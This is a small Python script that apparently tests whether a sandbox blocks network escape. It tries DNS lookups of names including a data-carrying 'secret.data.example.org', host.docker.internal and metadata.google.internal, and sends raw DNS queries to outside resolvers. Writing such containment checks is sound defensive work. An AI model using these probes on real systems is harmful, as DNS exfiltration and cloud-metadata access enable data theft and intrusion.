# hostile: names, and data hidden in questions for names; with: wall=30; quick
import socket

held = True
for name in ("example.org", "secret.data.example.org", "host.docker.internal", "metadata.google.internal"):
    try:
        print("ESCAPED:", socket.getaddrinfo(name, 80))
        held = False
    except OSError:
        pass
for server in ("127.0.0.53", "8.8.8.8", "192.0.2.53"):
    question = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    question.settimeout(0.2)
    try:
        question.sendto(b"\0" * 12, (server, 53))
        question.recv(512)
        print("ESCAPED: an answer from", server)
        held = False
    except OSError:
        pass
print("contained" if held else "")
